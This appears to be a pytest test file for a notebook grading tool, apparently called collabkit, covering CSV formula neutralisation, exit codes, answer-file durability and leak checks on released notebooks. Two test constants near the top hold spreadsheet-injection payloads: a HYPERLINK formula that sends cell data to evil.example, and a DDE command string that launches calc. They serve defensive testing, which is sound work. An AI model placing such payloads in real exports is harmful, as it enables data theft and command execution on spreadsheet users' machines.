"""Issue 13, points 4, 5, 6 and 8: safe release, honest exit codes and paths, spreadsheet
safety, and sidecar durability."""

from __future__ import annotations

import csv
from pathlib import Path

import nbformat
import pytest

import collabkit
from collabkit.assess.grading import grade
from collabkit.assess.questions import instructor_graded
from collabkit.cli import main
from tests.assess.test_grading import MAXIMUM, QUESTIONS, own_key, submission, write

HOSTILE_ID = '=HYPERLINK("http://evil.example/?"&A1,"click")'
HOSTILE_ANSWER = "@SUM(1+1)*cmd|' /C calc'!A0"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


def _formula_cells(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would run as a formula (genuine numbers are harmless)."""
    found = []
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_STARTS):
                try:
                    float(cell)
                except ValueError:
                    found.append(cell)
    return found


# -- 6. spreadsheet safety --------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["canvas", "moodle", "long"])
def test_hostile_id_and_answer_are_neutralised_in_every_csv(tmp_path, fmt):
    first = QUESTIONS[0]
    folder = tmp_path / "in"
    folder.mkdir()
    answers = {q.id: [own_key(q, HOSTILE_ID)] for q in QUESTIONS}
    free = next(q for q in QUESTIONS if q.kind == "text")
    answers[free.id] = [HOSTILE_ANSWER]
    write(folder, "evil.ipynb", submission(HOSTILE_ID, answers))
    write(folder, "tab.ipynb", submission("\tbob", {first.id: [own_key(first, "\tbob")]}))
    (folder / "-broken.ipynb").write_text('{"cells": [', encoding="utf-8")
    out = tmp_path / "out"
    assert main(["grade", str(folder), "--out", str(out), "--format", fmt]) == 0
    assert main(["report", str(out)]) == 0
    for name in ("gradebook.csv", "scores_long.csv", "problems.csv", "item_analysis.csv"):
        rows = _rows(out / name)
        assert _formula_cells(rows) == [], name
    long = _rows(out / "scores_long.csv")
    ids = {row[0] for row in long[1:]}
    assert ids == {"'" + HOSTILE_ID, "'\tbob"}
    answers_written = {row[8] for row in long[1:] if row[2] == free.id}
    assert "'" + HOSTILE_ANSWER in answers_written
    book = _rows(out / "gradebook.csv")
    if fmt != "long":  # the totals stay plain numbers
        hostile = next(row for row in book if "'" + HOSTILE_ID in row)
        assert float(hostile[-1]) == pytest.approx(MAXIMUM - free.points)
    problems = _rows(out / "problems.csv")
    assert any(row[0].endswith("-broken.ipynb") for row in problems[1:])


def test_neutralise_keeps_genuine_numbers_and_quotes_formulas():
    from collabkit.assess.spreadsheet import neutralise

    for number in ("-1.5", "+2", "-0.25e-3", "3", "-7."):
        assert neutralise(number) == number
    for formula in ("=1+1", "-1+2", "+A1", "@x", "\tx", "\rx", "-", "-cmd|x"):
        assert neutralise(formula) == "'" + formula
    assert neutralise(-3.0) == -3.0 and neutralise(None) is None
    assert neutralise("'=already") == "'=already"


# -- 5. honest exit codes and paths -----------------------------------------------------


def test_a_notebook_filter_naming_no_notebook_is_a_usage_error(tmp_path, capsys):
    folder = tmp_path / "in"
    folder.mkdir()
    write(folder, "a.ipynb", submission("alice", {QUESTIONS[0].id: [QUESTIONS[0].key]}))
    out = tmp_path / "out"
    assert main(["grade", str(folder), "--out", str(out), "--notebook", "09"]) == 1
    err = capsys.readouterr().err
    assert "no notebook 09" in err and "01" in err
    assert not out.exists()


def test_a_run_that_grades_nobody_exits_1_and_lists_the_files(tmp_path, capsys):
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "a.ipynb").write_text('{"cells": [', encoding="utf-8")
    nbformat.write(nbformat.v4.new_notebook(), folder / "b.ipynb")
    out = tmp_path / "out"
    assert main(["grade", str(folder), "--out", str(out)]) == 1
    assert "nobody was graded" in capsys.readouterr().err
    assert _rows(out / "gradebook.csv")[2:] == []  # header and points possible only
    listed = {Path(row[0]).name for row in _rows(out / "problems.csv")[1:]}
    assert listed == {"a.ipynb", "b.ipynb"}


def test_relative_paths_are_reported_as_given_and_read_from_anywhere(tmp_path, monkeypatch):
    from collabkit.assess import grading

    folder = tmp_path / "in"
    folder.mkdir()
    write(folder, "a.ipynb", submission("alice", {QUESTIONS[0].id: [QUESTIONS[0].key]}))
    monkeypatch.chdir(tmp_path)
    seen = []
    real = grading._grade_one

    def elsewhere(path, *rest):  # a worker that runs in another folder
        seen.append(path)
        monkeypatch.chdir("/")
        try:
            return real(path, *rest)
        finally:
            monkeypatch.chdir(tmp_path)

    monkeypatch.setattr(grading, "_grade_one", elsewhere)
    run = grade([Path("in/a.ipynb")])
    assert seen == [str(tmp_path / "in" / "a.ipynb")]
    assert [g.student_id for g in run.graded] == ["alice"]
    assert run.graded[0].path == Path("in/a.ipynb")


def test_a_worker_failure_names_the_submission(tmp_path, monkeypatch, capsys):
    from collabkit.assess import grading

    folder = tmp_path / "in"
    folder.mkdir()
    write(folder, "alice.ipynb", submission("alice", {QUESTIONS[0].id: [QUESTIONS[0].key]}))

    def broken(*args, **kwargs):
        raise MemoryError("worker ran out of memory")

    monkeypatch.setattr(grading, "score_submission", broken)
    assert main(["grade", str(folder), "--out", str(tmp_path / "out")]) == 2
    err = capsys.readouterr().err
    assert "alice.ipynb" in err and "MemoryError" in err


def test_dask_workers_in_another_folder_grade_correctly(tmp_path, monkeypatch):
    distributed = pytest.importorskip(
        "dask.distributed", reason="dask[distributed] is not installed: LocalCluster not tested"
    )
    folder = tmp_path / "in"
    folder.mkdir()
    write(folder, "a.ipynb", submission("alice", {q.id: [own_key(q, "alice")] for q in QUESTIONS}))
    elsewhere = tmp_path / "workers"
    elsewhere.mkdir()
    monkeypatch.chdir(elsewhere)  # the workers start here: "in/a.ipynb" does not exist there
    with distributed.LocalCluster(n_workers=1, processes=True, threads_per_worker=1) as cluster:
        monkeypatch.chdir(tmp_path)
        run = grade([Path("in/a.ipynb")], scheduler=cluster.scheduler_address)
    automatic = MAXIMUM - sum(q.points for q in QUESTIONS if instructor_graded(q))
    assert [(g.student_id, g.total("01")) for g in run.graded] == [("alice", automatic)]


def test_every_notebook_with_questions_is_a_known_filter(tmp_path):
    from collabkit.course import NOTEBOOK_TITLES

    assert {q.notebook for q in collabkit.all_questions()} <= set(NOTEBOOK_TITLES)


# -- 8. sidecar durability --------------------------------------------------------------

ANSWERS_EACH = 1_000


def _kernel(path: str, kernel: int, go) -> None:
    """One kernel answering ``ANSWERS_EACH`` times into the shared sidecar file."""
    from collabkit.assess.records import AnswerRecord, SidecarFile, now_iso

    file = SidecarFile(Path(path), "s1")
    go.wait()
    for attempt in range(1, ANSWERS_EACH + 1):
        file.append(AnswerRecord(f"01.kernel{kernel}", attempt, attempt, now_iso(), "s1"))


@pytest.mark.slow  # two processes rewriting a growing file 2,000 times
def test_two_kernels_answering_1000_times_each_lose_nothing(tmp_path):
    import json
    import multiprocessing

    path = tmp_path / "s1-01.json"
    context = multiprocessing.get_context("spawn")
    go = context.Event()
    kernels = [context.Process(target=_kernel, args=(str(path), k, go)) for k in (1, 2)]
    for kernel in kernels:
        kernel.start()
    go.set()
    for kernel in kernels:
        kernel.join(timeout=300)
    assert [kernel.exitcode for kernel in kernels] == [0, 0]
    records = json.loads(path.read_text(encoding="utf-8"))["records"]
    for k in (1, 2):
        attempts = [r["attempt"] for r in records if r["question_id"] == f"01.kernel{k}"]
        assert sorted(attempts) == list(range(1, ANSWERS_EACH + 1))
    assert len(records) == 2 * ANSWERS_EACH


def _sidecar_with(path: Path, answers: int) -> None:
    from collabkit.assess.records import AnswerRecord, SidecarFile

    file = SidecarFile(path, "s1")
    for attempt in range(1, answers + 1):
        time = f"2026-01-01T10:00:{attempt % 60:02d}.{attempt:03d}+00:00"
        file.append(AnswerRecord("01.pooling.cost", attempt, attempt, time, "s1"))


def test_a_read_that_fails_once_does_not_move_the_file_aside(tmp_path, monkeypatch):
    from collabkit.assess.records import AnswerRecord, SidecarFile, now_iso

    path = tmp_path / "s1-01.json"
    _sidecar_with(path, 50)
    real = Path.read_text
    failures = iter([OSError("stale file handle")])

    def flaky(self, *args, **kwargs):
        if self == path:
            error = next(failures, None)
            if error is not None:
                raise error
        return real(self, *args, **kwargs)

    monkeypatch.setattr(Path, "read_text", flaky)
    file = SidecarFile(path, "s1")
    file.append(AnswerRecord("01.reach.union", 11_000, 1, now_iso(), "s1"))
    assert len(SidecarFile(path, "s1").load()) == 51
    assert list(tmp_path.glob("*.unreadable-*")) == [] and file.notice is None


def test_a_file_that_stays_unreadable_is_moved_aside_and_the_student_told(tmp_path):
    path = tmp_path / "s1-01.json"
    path.write_text("{ not json", encoding="utf-8")
    session = collabkit.start(student_id="s1", answers_dir=tmp_path)
    (kept,) = tmp_path.glob("s1-01.json.unreadable-*")
    assert kept.read_text(encoding="utf-8") == "{ not json"
    assert kept.name in session._repr_html_() and "Tell your instructor" in session._repr_html_()
    question = collabkit.get_question("01.pooling.cost")
    session.submit(question, 10_200)  # shown with the next answer too, then no more
    assert session.save_error is not None and kept.name in session.save_error
    session.submit(question, 10_250)
    assert session.save_error is None
    path.write_text("{ broken again", encoding="utf-8")
    session.submit(question, 10_300)
    assert session.save_error is not None and "could not be read" in session.save_error
    assert len(list(tmp_path.glob("s1-01.json.unreadable-*"))) == 2


# -- 4. safe release --------------------------------------------------------------------

EXPLAINED = next(q for q in QUESTIONS if len(q.explanation) >= 80)


def _tree(folder: Path) -> dict[str, bytes]:
    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in folder.rglob("*")
            if p.is_file()}  # fmt: skip


def _source(tmp_path: Path, *cells) -> Path:
    folder = tmp_path / "src"
    folder.mkdir(exist_ok=True)
    start = nbformat.v4.new_code_cell("import collabkit\ncollabkit.start()")
    worked = nbformat.v4.new_markdown_cell("The worked answer: " + EXPLAINED.explanation)
    worked.metadata["tags"] = ["Solution"]
    nbformat.write(nbformat.v4.new_notebook(cells=[start, worked]), folder / "01_clean.ipynb")
    if cells:
        nbformat.write(nbformat.v4.new_notebook(cells=list(cells)), folder / "01_leaky.ipynb")
    return folder


@pytest.mark.parametrize("inside", ["", "release", "deeper/release"])
def test_a_release_into_its_own_source_is_refused_and_the_source_kept(tmp_path, capsys, inside):
    folder = _source(tmp_path)
    before = _tree(folder)
    assert main(["release", str(folder), str(folder / inside)]) == 2
    assert "must not be the source folder or inside it" in capsys.readouterr().err
    assert _tree(folder) == before


def test_a_leaking_release_writes_nothing_and_names_notebook_cell_and_reason(tmp_path, capsys):
    leaky = nbformat.v4.new_markdown_cell(EXPLAINED.explanation)
    folder = _source(tmp_path, nbformat.v4.new_code_cell("x = 1"), leaky)
    out = tmp_path / "out"
    assert main(["release", str(folder), str(out)]) == 1
    err = capsys.readouterr().err
    assert f"01_leaky.ipynb: cell 1 source: the {EXPLAINED.id} worked explanation" in err
    assert not out.exists() and list(tmp_path.glob(".out.release-*")) == []
    assert main(["release", str(folder / "01_clean.ipynb"), str(out)]) == 0
    (written,) = out.iterdir()
    released = nbformat.read(written, as_version=4)
    assert len(released.cells) == 1  # the cell tagged "Solution" is gone
    assert main(["release", str(folder), str(out)]) == 1  # an earlier release is left as is
    assert [p.name for p in out.iterdir()] == [written.name]


def _wrapped(text: str, width: int) -> str:
    import textwrap

    return "\n".join(textwrap.wrap(text, width))


def _leaks_of(cell=None, **notebook_metadata) -> list[str]:
    from collabkit.assess.release import leaks

    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("x = 1")])
    if cell is not None:
        nb.cells.append(cell)
    nb.metadata.update(notebook_metadata)
    return leaks(nb, collabkit.all_questions())


def test_the_leak_check_finds_solutions_wherever_they_hide():
    import base64

    def code(source: str, **fields) -> nbformat.NotebookNode:
        cell = nbformat.v4.new_code_cell(source)
        cell.update(fields)
        return cell

    explanation = EXPLAINED.explanation
    rewrapped = nbformat.v4.new_markdown_cell("> " + _wrapped(explanation.upper(), 30))
    output = nbformat.v4.new_output("stream", text=_wrapped(explanation, 50))
    attached = nbformat.v4.new_markdown_cell("![key](attachment:key.txt)")
    attached["attachments"] = {
        "key.txt": {"text/plain": base64.b64encode(explanation.encode()).decode()}
    }
    tagged = code("x = 2")
    tagged.metadata["tags"] = ["SOLUTIONS"]
    hidden = code("x = 3")
    hidden.metadata["collapsed_answer"] = explanation
    cases = {
        "cell 1 source: the": rewrapped,
        "cell 1 output: the": code("print(x)", outputs=[output]),
        "cell 1 attachment: the": attached,
        "cell 1 metadata: the": hidden,
        "cell 1: tagged as a solution": tagged,
        "cell 1: holds an nbgrader solution marker": code(
            "### BEGIN SOLUTION\nx = 42\n### END SOLUTION"
        ),
        "cell 1: code is left below '# YOUR CODE HERE'": code("# YOUR CODE HERE\nx = 42"),
    }
    for reason, cell in cases.items():
        found = _leaks_of(cell)
        assert len(found) == 1 and found[0].startswith(reason), (reason, found)
    (found,) = _leaks_of(course={"notes": explanation})
    assert found.startswith(f"notebook metadata: the {EXPLAINED.id} worked explanation")
    assert _leaks_of(code("# YOUR CODE HERE\nraise NotImplementedError()")) == []
    assert _leaks_of(nbformat.v4.new_markdown_cell("Solutions are discussed in class.")) == []


def test_release_strips_cells_tagged_solution_in_any_case():
    from collabkit.assess.release import is_solution_tag, release_notebook

    cells = [nbformat.v4.new_code_cell(str(i)) for i in range(4)]
    for cell, tag in zip(
        cells, ["Solution", "solutions", " SOLUTION ", "solutionish"], strict=True
    ):
        cell.metadata["tags"] = [tag]
    released = release_notebook(nbformat.v4.new_notebook(cells=cells), "01")
    assert [c["source"] for c in released["cells"]] == ["3"]
    assert not is_solution_tag("my-solution") and not is_solution_tag(None)


def test_a_numeric_key_is_found_in_any_number_format():
    from collabkit.assess.questions import Numeric
    from collabkit.assess.release import leaks, normalise

    key = Numeric(id="01.task.cost", prompt="Cost (EUR)?", answer=12917.5, unit="EUR")
    for written in ("12,917.50", "12917.5", "12,917.500 EUR", "Total:\n12917.50"):
        nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_markdown_cell(written)])
        assert leaks(nb, [], [key]), written
    for clean in ("12,917.6", "112917.5", "1.29175"):
        nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_markdown_cell(clean)])
        assert leaks(nb, [], [key]) == [], clean
    assert normalise("A  B\n**C** 1,234.50 and 7.0") == "a b c 1234.5 and 7"


def test_answers_in_a_folder_without_a_lock_file_are_still_restored(tmp_path, monkeypatch):
    from collabkit.assess import records

    _sidecar_with(tmp_path / "s1-01.json", 3)

    def read_only(path):  # what opening the lock file does in a read-only folder
        raise PermissionError(13, "Permission denied", str(path))

    monkeypatch.setattr(records, "locked", read_only)
    session = collabkit.start(student_id="s1", answers_dir=tmp_path)
    assert len(session.records) == 3
